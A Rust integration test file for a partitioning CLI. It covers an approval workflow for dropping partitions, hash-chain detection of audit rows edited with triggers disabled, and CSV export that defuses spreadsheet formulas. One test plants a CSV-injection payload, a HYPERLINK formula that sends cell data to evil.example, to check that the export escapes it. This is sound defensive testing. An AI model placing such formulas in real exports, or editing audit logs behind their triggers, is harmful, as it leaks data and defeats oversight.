//! The approval workflow and audit trail through the built binary: `cleanup --force` files a
//! request for the audit log instead of dropping (and says so; a second run names the open one),
//! `requests list|show|execute`, `audit verify` naming the row edited behind the triggers' back,
//! and `audit export` writing CSV.

mod cli_common;

use cli_common::*;
use partitioning::access::Role;
use partitioning::approval::Decision;
use partitioning::pg::approvals;
use partitioning::pg::testdb::TestDb;

async fn old_audit_partition(db: &TestDb) -> String {
    sqlx::query_scalar(
        "SELECT create_audit_log_partition(((now() AT TIME ZONE 'UTC') - interval '98 months')::date)",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap()
}

async fn exists(db: &TestDb, name: &str) -> bool {
    sqlx::query_scalar("SELECT to_regclass($1) IS NOT NULL")
        .bind(name)
        .fetch_one(&db.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn cleanup_force_files_a_request_and_the_cli_executes_it_once_approved() {
    let db = TestDb::migrated().await.unwrap();
    let part = old_audit_partition(&db).await;
    let out = cli(&db, &["cleanup", "--force", "--actor", "cli:dba1"]).await;
    let said = text(&out);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(said.contains("filed cleanup request #1"), "{said}");
    assert!(
        exists(&db, &part).await,
        "nothing dropped by cleanup --force"
    );
    let again = text(&cli(&db, &["cleanup", "--force"]).await);
    assert!(
        again.contains("#1 for exactly these partitions is already open"),
        "{again}"
    );

    let shown = text(&cli(&db, &["requests", "show", "1"]).await);
    assert!(
        shown.contains(&part) && shown.contains("still needed: a DBA's approval (role dba or admin, not the requester) and a compliance officer's approval (role compliance)"),
        "{shown}"
    );
    let early = cli(&db, &["requests", "execute", "1"]).await;
    assert_eq!(early.status.code(), Some(2), "{}", text(&early));
    assert!(text(&early).contains("not approved"), "{}", text(&early));

    approvals::decide(&db.pool, 1, "dba2", Role::Dba, Decision::Approve, "ok")
        .await
        .unwrap();
    approvals::decide(
        &db.pool,
        1,
        "carol",
        Role::Compliance,
        Decision::Approve,
        "ok",
    )
    .await
    .unwrap();
    let listed = text(&cli(&db, &["requests", "list", "--state", "approved"]).await);
    assert!(
        listed.contains("#1") && listed.contains("approved"),
        "{listed}"
    );
    let run = cli(&db, &["requests", "execute", "1", "--actor", "cli:dba2"]).await;
    assert_eq!(run.status.code(), Some(0), "{}", text(&run));
    assert!(
        text(&run).contains("1 partition(s) dropped"),
        "{}",
        text(&run)
    );
    assert!(!exists(&db, &part).await);
    let bad = cli(&db, &["requests", "list", "--state", "done"]).await;
    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad));
}

#[tokio::test]
async fn audit_verify_names_the_row_edited_with_triggers_disabled() {
    let db = TestDb::migrated().await.unwrap();
    for n in 0..5 {
        sqlx::query("SELECT rustcare_audit_append($1, 'login', '', '{}')")
            .bind(format!("user{n}"))
            .execute(&db.pool)
            .await
            .unwrap();
    }
    let ok = cli(&db, &["audit", "verify"]).await;
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
    assert!(text(&ok).contains("intact: 5 row(s)"), "{}", text(&ok));

    let dir = tempdir();
    let file = dir.join("trail.csv");
    let export = cli(&db, &["audit", "export", "--out", file.to_str().unwrap()]).await;
    assert_eq!(export.status.code(), Some(0), "{}", text(&export));
    let csv = std::fs::read_to_string(&file).unwrap();
    assert!(
        csv.starts_with("id,at_utc,actor,action,subject,detail,prev_hash,hash\n"),
        "{csv}"
    );
    assert_eq!(csv.lines().count(), 6, "{csv}");

    sqlx::raw_sql(
        "ALTER TABLE audit_trail DISABLE TRIGGER ALL; \
         UPDATE audit_trail SET actor = 'someone-else' WHERE id = 3; \
         ALTER TABLE audit_trail ENABLE TRIGGER ALL;",
    )
    .execute(&db.pool)
    .await
    .unwrap();
    let broken = cli(&db, &["audit", "verify"]).await;
    assert_eq!(broken.status.code(), Some(1), "{}", text(&broken));
    assert!(
        text(&broken).contains("BROKEN at row 3"),
        "{}",
        text(&broken)
    );
}

/// The export is safe to open in a spreadsheet: a failed login's actor is whatever an anonymous
/// visitor typed, and a cell beginning with `=`, `+`, `-` or `@` is written with a leading `'`.
/// `audit verify` still works on the table, whatever the file shows.
#[tokio::test]
async fn audit_export_neutralises_formula_cells() {
    let db = TestDb::migrated().await.unwrap();
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    for actor in [hostile, "@SUM(1)", "dba1"] {
        let event = partitioning::pg::audit::AuditEvent::new(
            actor,
            "login_failed",
            "",
            serde_json::json!({"reason": "unknown user"}),
        );
        partitioning::pg::audit::append(&db.pool, &event)
            .await
            .unwrap();
    }
    let dir = tempdir();
    let file = dir.join("trail.csv");
    let export = cli(&db, &["audit", "export", "--out", file.to_str().unwrap()]).await;
    assert_eq!(export.status.code(), Some(0), "{}", text(&export));
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let actors: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[2].to_string())
        .collect();
    assert_eq!(
        actors,
        [
            format!("'{hostile}"),
            "'@SUM(1)".to_string(),
            "dba1".to_string()
        ]
    );
    let ok = cli(&db, &["audit", "verify"]).await;
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
}

/// Any table can be put under the two-person rule: with `SESSIONS_CLEANUP=approval`,
/// `cleanup --force` files a request for the expired sessions partition instead of dropping it
/// (an `auto` table next to it is still cleaned), and the policy change is audited by its actor.
#[tokio::test]
async fn cleanup_force_files_a_request_for_a_table_set_to_approval() {
    let db = TestDb::migrated().await.unwrap();
    let (session, rate): (String, String) = sqlx::query_as(
        "SELECT create_sessions_partition((now() AT TIME ZONE 'UTC')::date - 100), \
                create_rate_limits_partition((now() AT TIME ZONE 'UTC')::date - 20)",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    let dir = tempdir();
    let conf = dir.join("partitioning.conf");
    std::fs::write(&conf, "SESSIONS_CLEANUP=approval\n").unwrap();
    let args = [
        "cleanup",
        "--force",
        "--config",
        conf.to_str().unwrap(),
        "--actor",
        "cli:dba1",
    ];
    let out = cli(&db, &args).await;
    let said = text(&out);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(said.contains("filed cleanup request #1"), "{said}");
    assert!(exists(&db, &session).await, "{session} kept: {said}");
    assert!(!exists(&db, &rate).await, "{rate} (auto) dropped: {said}");
    let (tables, needs_compliance, by): (Vec<String>, bool, String) = sqlx::query_as(
        "SELECT tables, needs_compliance, requested_by FROM cleanup_requests WHERE id = 1",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert_eq!(tables, ["sessions"]);
    assert!(!needs_compliance, "sessions needs a DBA only");
    assert_eq!(by, "cli:dba1");
    let change: (String, serde_json::Value) = sqlx::query_as(
        "SELECT actor, detail->'changes' FROM audit_trail WHERE action = 'policy_changed'",
    )
    .fetch_one(&db.pool)
    .await
    .unwrap();
    assert_eq!(
        change,
        (
            "cli:dba1".to_string(),
            serde_json::json!([{"table": "sessions", "field": "cleanup_mode",
                                "old": "auto", "new": "approval"}])
        )
    );
}
